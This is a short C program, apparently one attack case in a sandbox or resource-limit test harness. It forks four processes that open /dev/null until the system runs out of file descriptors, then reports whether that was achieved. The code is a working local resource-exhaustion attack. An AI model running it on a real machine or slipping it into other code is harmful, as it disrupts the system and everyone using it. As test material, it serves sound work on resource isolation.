/* Opens as many descriptors as it can in 4 processes, until the system has none left (Resources, "file-descriptor exhaustion").
 * The harness looks whether it can still open a file. */
#include "attack.h"

int main(int argc, char **argv)
{
	struct rlimit limit;
	getrlimit(RLIMIT_NOFILE, &limit);
	limit.rlim_cur = limit.rlim_max;
	setrlimit(RLIMIT_NOFILE, &limit);
	tried();
	for (int i = 0; i < 4; i++)
		if (fork() == 0) {
			while (open("/dev/null", O_RDONLY) >= 0)
				;
			if (errno == ENFILE)
				gained("the last descriptor of the system");
			sleep(1);
			_exit(0);
		}
	say("READY", "");
	while (wait(0) > 0)
		;
	return 0;
}
